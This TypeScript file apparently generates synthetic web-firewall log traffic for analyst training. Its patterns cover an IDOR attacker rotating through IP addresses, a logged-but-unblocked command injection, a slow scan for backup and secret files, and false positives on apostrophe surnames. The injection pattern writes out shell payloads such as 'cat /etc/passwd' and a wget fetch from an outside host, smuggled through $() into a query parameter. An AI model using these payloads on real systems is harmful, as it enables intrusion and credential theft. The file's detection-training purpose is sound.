import { ACCESS, DETAIL, type Origin, recurs, type TrafficPattern } from './traffic-pattern.ts';

/*
 * What no burst gives away, and an analyst has to find by asking: who shares a network, what passes, what never
 * stops, and who is stopped by mistake. All of it is little beside the rest of the traffic.
 */

/** One network with 300 addresses as they are logged, which the attacker goes through. */
const ROTATION: readonly Origin[] = [
  { asn: '49870', country: 'NL', network: '45.148' },
  { asn: '49870', country: 'NL', network: '45.149' },
];

/** Reads other people's orders, one number after another, each from another address of one network. */
export const rotatingAttacker: TrafficPattern = {
  name: 'rotating attacker',
  origins: ROTATION,
  subnets: 150,
  agents: [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.55 Safari/537.36',
  ],
  details: Array.from({ length: 24 }, (_, at) => String(810_417 + at * 37)),
  requests: [
    {
      method: 'GET',
      path: `/api/v2/orders/${DETAIL}/invoice`,
      ruleId: '100041',
      ruleGroup: '',
      message: 'Orders read in sequence without a session',
      severity: 'WARNING',
      status: 'Challenged',
      trigger: ['MATCH', DETAIL],
    },
    {
      method: 'GET',
      path: `/api/v2/orders/${DETAIL}/invoice`,
      ruleId: '100042',
      ruleGroup: '',
      message: 'Order of another customer',
      severity: 'WARNING',
      status: 'Logged',
      trigger: ['MATCH', DETAIL],
    },
  ],
  weight: () => 0.5,
};

/** A rule that was never switched from logging to blocking, and an attack that passes by it for three minutes. */
export const passingAttack: TrafficPattern = {
  name: 'attack that passes',
  origins: [{ asn: '209605', country: 'LT', network: '141.98' }],
  subnets: 2,
  agents: ['Mozilla/5.0 (compatible; ImportTool/2.1)'],
  details: ['id', 'uname%20-a', 'cat%20/etc/passwd', 'wget%20http://141.98.10.9/x'],
  requests: [
    {
      method: 'POST',
      path: `/api/v2/import?source=$(${DETAIL})`,
      ruleId: '932130',
      ruleGroup: '',
      message: 'Remote Command Execution: Unix Shell Expression Found',
      severity: 'CRITICAL',
      status: 'Logged',
      trigger: ['RX', `$(${DETAIL})`],
      body: `source=%24%28${DETAIL}%29`,
    },
  ],
  weight: (minute, phase) =>
    recurs(minute, { period: 29, length: 3, phase: phase + 11 }) ? 2.5 : 0.05,
};

/** A scan of one path a minute, all day: under whatever marks a burst. */
export const slowScan: TrafficPattern = {
  name: 'slow scan',
  origins: [{ asn: '56971', country: 'KZ', network: '185.220' }],
  subnets: 1,
  agents: ['Mozilla/5.0 (Windows NT 6.1; rv:60.0) Gecko/20100101 Firefox/60.0'],
  details: [
    'backup.zip',
    'db.sql.gz',
    'config.old',
    'site.tar',
    'users.csv',
    'dump.rdb',
    'id_rsa.pub',
    'web.config',
    'settings.py',
    'secrets.yml',
    'export.xlsx',
    'wp-config.txt',
  ],
  requests: ['', '/old', '/archive', '/private', '/staging', '/files'].map((folder) => ({
    method: 'GET' as const,
    path: `${folder}/${DETAIL}`,
    ruleId: '920440',
    ruleGroup: '',
    message: 'URL file extension is restricted by policy',
    severity: 'NOTICE' as const,
    status: 'Logged' as const,
    trigger: ['WITHIN', DETAIL] as const,
  })),
  weight: () => 0.02,
};

/** Customers whose names a rule takes for SQL: signed in, from everywhere, and stopped at the checkout. */
export const stoppedCustomers: TrafficPattern = {
  name: 'stopped customers',
  origins: ACCESS,
  subnets: 180,
  agents: [
    'Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0',
  ],
  details: ["O'Neill", "D'Angelo", "O'Brien", "L'Heureux", "N'Diaye", "Dell'Acqua"],
  requests: [
    {
      method: 'POST',
      path: `/checkout/address?surname=${DETAIL}`,
      ruleId: '942330',
      ruleGroup: '',
      message: 'Detects classic SQL injection probings 1/3',
      severity: 'CRITICAL',
      status: 'Blocked',
      trigger: ['RX', DETAIL],
      body: `surname=${DETAIL}&city=Galway`,
      isSignedIn: true,
    },
  ],
  weight: () => 0.25,
};
